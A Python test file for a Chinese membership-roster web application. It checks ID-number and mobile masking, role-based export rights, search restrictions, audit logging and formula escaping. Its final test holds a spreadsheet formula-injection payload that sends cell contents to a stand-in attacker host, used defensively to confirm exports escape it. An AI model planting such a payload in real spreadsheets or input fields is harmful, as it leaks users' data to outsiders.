"""Personal data stays hidden: masks, exports, past rosters, oracles, refusals.

The committee is the permission matrix's ``world``: 王内明 (inside, edu1,
with a mobile), 赵外亮 (outside, the direct branch) and 李晓梅 (the
self-service member's own record, edu2).  The branch head reveals within
edu1, staff and the office everywhere, the leader nowhere.
"""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import make_id_number
from tests.security.matrix import ROLES, xlsx_text
from tongxin.audit.models import AuditEvent
from tongxin.audit.services import audit_record
from tongxin.members.services import member_create, member_transfer

MOBILE = "13812345678"
V1 = "/api/v1"
#: Roles that may export the roster, and over whom they may reveal.
REVEAL_REACH = {
    "staff": {"inside", "outside", "own"},
    "office": {"inside", "outside", "own"},
    "head": {"inside"},
    "leader": set(),
}
EXPORT_CALLS = {
    "web": lambda: "/members/export/",
    "api": lambda: f"{V1}/roster/export",
}


@pytest.fixture(autouse=True)
def _fresh_rate_counts():
    cache.clear()
    yield
    cache.clear()


def events(action: str) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=action).order_by("id"))


def download(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content)


def sheets(content: bytes) -> dict[str, list[dict]]:
    """Return the roster rows by name, and the notice sheet's lines."""
    book = load_workbook(io.BytesIO(content))
    roster = list(book.worksheets[0].iter_rows(values_only=True))
    head = roster[0]
    rows = {r[0]: dict(zip(head, r, strict=True)) for r in roster[1:]}
    notice = [r[0] for r in book.worksheets[1].iter_rows(values_only=True)]
    return {"rows": rows, "notice": notice, "keywords": book.properties.keywords}


def api_post(client: Client, path: str, payload: dict):
    return client.post(path, payload, content_type="application/json")


# --- 6. one mask, first and last character only -----------------------------------


def test_a_record_shows_only_the_first_and_last_character(world, client_as):
    member = world.members["inside"]
    number = member.id_number
    html = client_as("leader").get(f"/members/{member.pk}/").content.decode()
    assert number[0] + "*" * 16 + number[-1] in html
    assert number[:6] + "*" not in html and "1*********8" in html
    body = client_as("leader").get(f"{V1}/members/{member.pk}").json()
    assert body["id_number"] == number[0] + "*" * 16 + number[-1]
    assert body["mobile"] == "1*********8"
    assert body["birth_date"] == "1975-03-14"  # shown beside it, and harmless now


def test_audit_details_written_under_the_old_mask_are_masked_again(world, client_as):
    member = world.members["inside"]
    old = member.id_number[:6] + "********" + member.id_number[-4:]
    audit_record(
        action="update",
        obj=member,
        detail={
            "before": {"id_number": old, "mobile": "138****5678"},
            "after": {"id_number": old, "mobile": "139****4321"},
            "filters": {"q": old},
        },
        actor=world.root,
    )
    auditor = client_as("auditadmin")
    page = auditor.get("/audit/", {"q": member.name}).content.decode()
    api = auditor.get(f"{V1}/audit/events").content.decode()
    for text in (page, api):
        assert old not in text and "138****5678" not in text
        assert member.id_number[0] + "*" * 16 + member.id_number[-1] in text
        assert "1*********8" in text and "1*********1" in text


# --- 7. exports give no more than reveal ------------------------------------------


@pytest.mark.parametrize("via", sorted(EXPORT_CALLS))
@pytest.mark.parametrize("role", ROLES)
def test_every_export_is_clear_exactly_where_reveal_is(world, client_as, role, via):
    """The export matrix: who may export, and which members come out in clear."""
    response = client_as(role).get(EXPORT_CALLS[via]())
    if role not in REVEAL_REACH:
        assert response.status_code in (302, 401, 403, 404)
        return
    content = download(response)
    got = sheets(content)
    reach = REVEAL_REACH[role]
    names = {t: m.name for t, m in world.members.items()}
    shown = {t for t, name in names.items() if name in got["rows"]}
    assert shown, "the export lists no member"
    for side in shown:
        member = world.members[side]
        row = got["rows"][member.name]
        number = member.id_number
        if side in reach:
            assert row["身份证号"] == number
        else:
            assert row["身份证号"] == number[0] + "*" * 16 + number[-1]
            assert number not in xlsx_text(content)
    if side == "inside" or "inside" in shown:
        mobile = got["rows"][names["inside"]]["手机"]
        assert mobile == (MOBILE if "inside" in reach else "1*********8")
    clear = [s for s in shown if s in reach]
    notice = "\n".join(got["notice"])
    assert ("明文，属于个人信息" in notice) == bool(clear)
    assert ("已遮蔽" in notice) == bool(set(shown) - reach)
    assert got["keywords"] == (
        "personal-data:clear" if clear else "personal-data:masked"
    )
    bulk = [e for e in events("reveal") if e.detail.get("bulk")]
    if clear:
        assert len(bulk) == 1 and bulk[0].actor == world.users[role]
        assert bulk[0].detail["members"] == len(clear)
        assert bulk[0].detail["fields"] == ["id_number", "mobile"]
    else:
        assert bulk == []
    export = events("export")[-1]
    assert export.detail["clear"] == len(clear)


def test_a_masked_export_imports_back_without_overwriting(world, client_as):
    """Masks read back as "unchanged"; a masked number never makes a member."""
    member = world.members["inside"]
    member.certificate_no = "民进0001"
    member.save(update_fields=["certificate_no"])
    content = download(client_as("leader").get("/members/export/"))
    staff = client_as("staff")
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("花名册.xlsx", content)
    report = staff.post(f"{V1}/roster/import", {"file": upload, "plan": True}).json()
    by_name = {p["name"]: p for p in report["plan"]}
    # Matched by certificate number: the masked ID number and mobile are not
    # changes, and nothing else differs.
    assert by_name[member.name]["action"] == "update"
    assert by_name[member.name]["changes"] == []
    messages = {e["value"]: e["message"] for e in report["errors"]}
    masked_out = world.members["outside"].id_number
    masked_out = masked_out[0] + "*" * 16 + masked_out[-1]
    assert "身份证号已遮蔽" in "".join(messages.values())
    assert report["created"] == 0
    upload.seek(0)
    staff.post(f"{V1}/roster/import", {"file": upload, "commit": True, "mode": "valid"})
    member.refresh_from_db()
    assert member.id_number == world.members["inside"].id_number
    assert member.mobile == MOBILE


# --- 8. a past roster shows no one's present ----------------------------------------


@pytest.fixture
def moved(world):
    """A member of edu1 from 2005 who moved to the direct branch in 2020."""
    member = member_create(
        by=world.root,
        organization=world.org.edu1,
        name="钱已调",
        id_number=make_id_number(dt.date(1970, 2, 2), False),
        joined_on=dt.date(2005, 6, 1),
        mobile="13900001111",
        address="大连市沙河口区某路 1 号",
        work_unit="大连理工大学",
    )
    member_transfer(
        member=member,
        to_org=world.org.direct,
        on=dt.date(2020, 1, 1),
        note="",
        version=member.version,
        by=world.root,
    )
    return member


@pytest.mark.parametrize("via", sorted(EXPORT_CALLS))
def test_a_past_export_shows_a_member_now_out_of_reach_by_name_and_dates(
    world, client_as, moved, via
):
    params = {"org": world.org.edu1.pk, "on": "2010-01-01"}
    content = download(client_as("head").get(EXPORT_CALLS[via](), params))
    row = sheets(content)["rows"][moved.name]
    assert row["入会时间"] == "2005-06-01"
    assert row["所在组织"] == "教育一支部"  # where they were then
    text = xlsx_text(content)
    for secret in (moved.id_number, "13900001111", "沙河口", "大连理工", "市直属"):
        assert secret not in text
    masked = moved.id_number[0] + "*" * 16 + moved.id_number[-1]
    assert row["身份证号"] is None and masked not in text
    # Members still within reach keep their record.
    assert sheets(content)["rows"][world.members["inside"].name]["身份证号"]


def test_a_past_list_shows_a_member_now_out_of_reach_by_name_and_dates(
    world, client_as, moved
):
    head = client_as("head")
    params = {"org": world.org.edu1.pk, "on": "2010-01-01"}
    html = head.get("/members/", params).content.decode()
    assert moved.name in html and f"/members/{moved.pk}/" not in html
    assert "大连理工" not in html and "市直属" not in html
    items = head.get(f"{V1}/members", params).json()["items"]
    row = next(i for i in items if i["name"] == moved.name)
    assert row["organization"]["name"] == "教育一支部"
    assert row["work_unit"] == "" and row["birth_date"] is None
    assert row["status"] == "" and row["joined_on"] == "2005-06-01"


# --- 9. no oracles -------------------------------------------------------------------


SEARCHES = {
    "web list": lambda q: ("/members/", {"q": q}),
    "api list": lambda q: (f"{V1}/members", {"q": q}),
    "web export": lambda q: ("/members/export/", {"q": q}),
    "api export": lambda q: (f"{V1}/roster/export", {"q": q}),
}


def _found(response, name: str) -> bool:
    if response.streaming:
        return name in xlsx_text(b"".join(response.streaming_content))
    return name in response.content.decode()


#: How each search refuses: the list page shows the message (and no rows),
#: the API answers 422 like any invalid parameter, the export page 400.
REFUSED_STATUS = {
    "web list": 200,
    "api list": 422,
    "web export": 400,
    "api export": 422,
}


@pytest.mark.parametrize("field", ["id_number", "mobile"])
@pytest.mark.parametrize("where", sorted(SEARCHES))
@pytest.mark.parametrize("role", ["head", "leader", "staff", "member"])
def test_a_search_by_a_whole_number_needs_the_reveal_right(
    world, client_as, role, where, field
):
    """The search matrix: every parameter that can match a personal field."""
    member = world.members["inside"]
    number = member.id_number if field == "id_number" else MOBILE
    path, params = SEARCHES[where](number)
    response = client_as(role).get(path, params)
    if role in ("head", "staff"):
        assert response.status_code == 200
        assert _found(response, member.name)
        searched = [e for e in events("reveal") if e.detail.get("search") == field]
        assert len(searched) == 1 and number not in str(searched[0].detail)
    elif role == "member" and "export" in where:
        assert response.status_code == 403  # a member may not export at all
    elif role == "member" and where == "web list":
        # A member has no list page: they land on their own page, and the
        # number is not searched at all.
        assert response.status_code == 302
        assert response.url == reverse("members:me")
        assert events("reveal") == []
    elif role == "member":
        # Their reveal right covers their own record: someone else's number
        # finds no one (and the search is still counted and audited).
        assert response.status_code == 200
        assert member.name not in response.content.decode()
        assert [e.detail["search"] for e in events("reveal")] == [field]
    else:
        assert response.status_code == REFUSED_STATUS[where]
        assert "查看明文的权限" in response.content.decode()
        refused = events("reveal_refused")
        assert refused and refused[-1].detail["search"] == field
        assert number not in str(refused[-1].detail)
        assert member.name not in response.content.decode()


def test_pickers_and_name_searches_never_match_a_number(world, client_as):
    number = world.members["inside"].id_number
    for path, params in (
        ("/members/pick/", {"_pick": number}),
        ("/members/pick/", {"_pick": MOBILE}),
        ("/talent/", {"q": MOBILE}),
    ):
        response = client_as("staff").get(path, params)
        assert world.members["inside"].name not in response.content.decode()


def test_searches_by_number_are_rate_limited(world, client_as, settings):
    settings.TONGXIN_PERSONAL_SEARCH_LIMIT = (2, 3600)
    staff = client_as("staff")
    for _n in range(2):
        assert staff.get(f"{V1}/members", {"q": MOBILE}).status_code == 200
    refused = staff.get(f"{V1}/members", {"q": MOBILE})
    assert refused.status_code == 422 and "过于频繁" in refused.content.decode()
    assert events("reveal_refused")[-1].detail["reason"] == "rate_limited"
    # Name searches are not counted.
    assert staff.get(f"{V1}/members", {"q": "王内明"}).status_code == 200


def test_a_duplicate_application_names_no_one_out_of_reach(world, client_as):
    second = member_create(
        by=world.root,
        organization=world.org.edu1,
        name="孙介绍",
        id_number=make_id_number(dt.date(1966, 6, 6), False),
        joined_on=dt.date(2001, 1, 1),
    )

    def apply(role, target):
        return api_post(
            client_as(role),
            f"{V1}/lifecycle/applications",
            {
                "name": "申请人",
                "id_number": world.members[target].id_number,
                "organization": world.org.edu1.pk,
                "introducer_1": world.members["inside"].pk,
                "introducer_2": second.pk,
                "applied_on": dt.date.today().isoformat(),
            },
        )

    outside = apply("head", "outside")
    assert outside.status_code in (400, 422)
    text = outside.content.decode()
    assert "已登记" in text and world.members["outside"].name not in text
    inside = apply("head", "inside")
    assert world.members["inside"].name in inside.content.decode()


def test_unknown_and_out_of_reach_codes_get_the_same_answer(world, client_as):
    head = client_as("head")

    def answer(code):
        response = head.get(f"{V1}/stats/figures", {"org": code})
        return response.status_code, response.json()

    status, body = answer("D1")  # the direct branch: real, out of reach
    assert status >= 400
    assert (status, str(body).replace("D1", "X")) == (
        answer("ZZ9")[0],
        str(answer("ZZ9")[1]).replace("ZZ9", "X"),
    )
    message = "组织代码“X”不存在或不在您可查看的范围内"
    for code in ("D1", "ZZ9"):
        page = head.get("/stats/", {"org": code}).content.decode()
        assert message in page.replace(code, "X")


# --- 10. every refused reveal is audited ---------------------------------------------


@pytest.mark.parametrize(
    ("role", "target", "status", "reason"),
    [
        ("leader", "inside", 403, "denied"),
        ("head", "outside", 404, "not_found"),
        ("member", "inside", 404, "not_found"),
    ],
)
@pytest.mark.parametrize("via", ["web", "api"])
def test_a_refused_reveal_leaves_an_audit_row(
    world, client_as, role, target, status, reason, via
):
    member = world.members[target]
    client = client_as(role)
    if via == "web":
        response = client.post(f"/members/{member.pk}/reveal/", {"field": "mobile"})
    else:
        response = api_post(
            client, f"{V1}/members/{member.pk}/reveal", {"field": "mobile"}
        )
    assert response.status_code == status
    (event,) = events("reveal_refused")
    assert event.actor == world.users[role]
    assert event.object_id == str(member.pk)
    assert event.detail["field"] == "mobile" and event.detail["reason"] == reason
    assert events("reveal") == []


# --- the property: nothing a non-revealer reaches rebuilds a number ------------------

#: Text that looks like a masked or clear number: digits, X and stars.
_NUMBERISH = re.compile(r"[0-9Xx*]{7,}")


def _rebuildable(text: str, number: str) -> list[str]:
    """Return what in ``text`` gives away more of ``number`` than two characters."""
    found = []
    if number in text:
        found.append(number)
    for run in _NUMBERISH.findall(text):
        if "*" not in run or len(run) != len(number):
            continue
        visible = [c for c in run if c != "*"]
        if len(visible) > 2:
            found.append(run)
    return found


def _reachable(world, client: Client, member) -> dict[str, str]:
    """Every page, API answer, export and audit view about ``member``, as text."""
    pk = member.pk
    texts = {}
    for path in (
        f"/members/{pk}/",
        f"/members/{pk}/edit/",
        "/members/",
        f"{V1}/members/{pk}",
        f"{V1}/members/{pk}/history",
        f"{V1}/members",
        "/audit/",
        f"{V1}/audit/events",
    ):
        response = client.get(path)
        if response.status_code == 200:
            texts[path] = response.content.decode()
    for path in ("/members/export/", f"{V1}/roster/export", "/audit/export/"):
        response = client.get(path, {"format": "xlsx"} if "audit" in path else {})
        if response.status_code == 200:
            content = (
                b"".join(response.streaming_content)
                if response.streaming
                else response.content
            )
            texts[path] = xlsx_text(content)
    return texts


NON_REVEALERS = [
    (role, target)
    for role in ROLES
    for target in ("inside", "outside", "own")
    if target not in REVEAL_REACH.get(role, set())
    and not (role == "member" and target == "own")
]


@pytest.mark.parametrize(("role", "target"), NON_REVEALERS)
def test_no_number_can_be_rebuilt_by_a_user_without_the_reveal_right(
    world, client_as, role, target
):
    member = world.members[target]
    staff = world.root
    # A change, so the history and the audit trail hold before/after values.
    from tongxin.members.services import member_update

    member_update(
        member=member,
        by=staff,
        version=type(member).objects.get(pk=member.pk).version,
        mobile="13700002222",
    )
    member.refresh_from_db()
    texts = _reachable(world, client_as(role), member)
    for number in filter(None, (member.id_number, member.mobile)):
        for where, text in texts.items():
            assert not _rebuildable(text, number), (where, _rebuildable(text, number))
            if member.birth_date:
                # No 6+4 mask beside a birth date.
                assert number[:6] + "*" not in text, where


# --- 14. no formula runs from a Tongxin spreadsheet ----------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


def test_a_suggestion_titled_as_a_formula_stays_text_in_the_duty_record(
    world, client_as
):
    from tongxin.participation import services as p

    member = world.members["inside"]
    p.suggestion_create(
        by=world.root, author=member, title=HYPERLINK, text="正文", submit=True
    )
    response = client_as("staff").get(
        f"/appraisal/members/{member.pk}/record/export/", {"format": "xlsx"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells, "the suggestion is in the record"
    assert all(c.data_type == "s" and c.value == "'" + HYPERLINK for c in cells)
